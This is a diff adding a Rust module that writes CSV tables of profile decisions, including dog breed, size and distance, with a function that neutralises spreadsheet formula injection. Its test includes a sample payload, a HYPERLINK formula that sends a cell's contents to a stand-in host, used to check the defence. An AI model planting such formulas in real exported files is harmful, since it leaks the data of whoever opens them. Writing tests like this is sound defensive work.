@@ -1,0 +1,156 @@
+//! `decisions.csv`, one row a profile in the order of the profiles, and beside it
+//! `rejected-profiles.csv`, one row for each row that was no profile.
+//!
+//! There is no column for a box: the whole photo is looked at.
+
+use std::path::Path;
+
+use anyhow::Context;
+use data::commit::Pending;
+
+use crate::detect::Classes;
+use crate::profiles::{Profile, RejectedRow};
+use crate::rules::Decision;
+use crate::verdict::Verdict;
+
+/// Name of the decisions in the output directory.
+pub const FILE_NAME: &str = "decisions.csv";
+/// Name of the rejected rows in the output directory.
+pub const REJECTED_FILE_NAME: &str = "rejected-profiles.csv";
+
+const COLUMNS: [&str; 11] = [
+    "id",
+    "name",
+    "decision",
+    "reason",
+    "photo",
+    "breed",
+    "probability",
+    "dog_probability",
+    "size",
+    "kg",
+    "distance_km",
+];
+
+/// A decision with what it is about.
+#[derive(Debug, Clone, Copy)]
+pub struct Decided<'a> {
+    /// About whom.
+    pub profile: &'a Profile,
+    /// What and why.
+    pub decision: &'a Decision,
+    /// What the photo that decided showed.
+    pub verdict: Option<&'a Verdict>,
+    /// From home.
+    pub distance_km: Option<f64>,
+}
+
+impl Decided<'_> {
+    /// The path of the photo that decided.
+    pub fn photo(&self) -> &str {
+        self.decision.photo.map_or("", |i| &self.profile.photos[i])
+    }
+
+    /// What that photo showed, if that is a dog.
+    pub fn dog(&self) -> Option<&Verdict> {
+        self.verdict.filter(|_| self.decision.dog)
+    }
+}
+
+/// A table that is being written; nothing stands under its name before [`Table::commit`].
+#[derive(Debug)]
+pub struct Table(csv::Writer<Pending>);
+
+impl Table {
+    /// Begins `decisions.csv` in `out`.
+    ///
+    /// # Errors
+    /// If the directory cannot be written.
+    pub fn decisions(out: &Path) -> anyhow::Result<Self> {
+        Self::create(&out.join(FILE_NAME), &COLUMNS)
+    }
+
+    /// Begins `rejected-profiles.csv` in `out`.
+    ///
+    /// # Errors
+    /// If the directory cannot be written.
+    pub fn rejected(out: &Path) -> anyhow::Result<Self> {
+        Self::create(&out.join(REJECTED_FILE_NAME), &["line", "detail"])
+    }
+
+    fn create(path: &Path, columns: &[&str]) -> anyhow::Result<Self> {
+        let mut table = csv::Writer::from_writer(Pending::create(path)?);
+        table.write_record(columns)?;
+        Ok(Self(table))
+    }
+
+    /// Writes a row of `decisions.csv`.
+    ///
+    /// # Errors
+    /// If the file cannot be written.
+    pub fn decided(&mut self, decided: &Decided<'_>, classes: &Classes) -> anyhow::Result<()> {
+        let number =
+            |value: Option<f64>, digits: usize| value.map_or(String::new(), |v| format!("{v:.digits$}"));
+        let dog = decided.dog();
+        let breed = dog.map(|v| classes.name(v.breed.class)).unwrap_or_default();
+        let size = dog.and_then(|v| v.size);
+        self.0.write_record([
+            inert(&decided.profile.id),
+            inert(&decided.profile.name),
+            decided.decision.answer.name().to_owned(),
+            inert(&decided.decision.reason),
+            inert(decided.photo()),
+            inert(&breed),
+            number(dog.map(|v| v.breed.probability), 4),
+            number(decided.verdict.map(|v| v.dog_probability), 4),
+            size.map(|s| s.size.to_string()).unwrap_or_default(),
+            number(size.map(|s| s.kg), 1),
+            number(decided.distance_km, 1),
+        ])?;
+        Ok(())
+    }
+
+    /// Writes a row of `rejected-profiles.csv`.
+    ///
+    /// # Errors
+    /// If the file cannot be written.
+    pub fn rejected_row(&mut self, row: &RejectedRow) -> anyhow::Result<()> {
+        Ok(self.0.write_record([row.line.to_string(), inert(&row.detail)])?)
+    }
+
+    /// Makes the table durable under its name.
+    ///
+    /// # Errors
+    /// If the file cannot be written.
+    pub fn commit(self) -> anyhow::Result<()> {
+        self.0.into_inner().map_err(csv::IntoInnerError::into_error).context("cannot write a table")?.commit()
+    }
+}
+
+/// `cell` such that no spreadsheet takes it for a formula: one that begins with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return gets a `'` in front.
+fn inert(cell: &str) -> String {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula { format!("'{cell}") } else { cell.to_owned() }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_cell_is_a_formula() {
+        for (cell, expected) in [
+            ("=HYPERLINK(\"http://x?\"&A1)", "'=HYPERLINK(\"http://x?\"&A1)"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@x", "'@x"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(inert(cell), expected);
+        }
+    }
+}
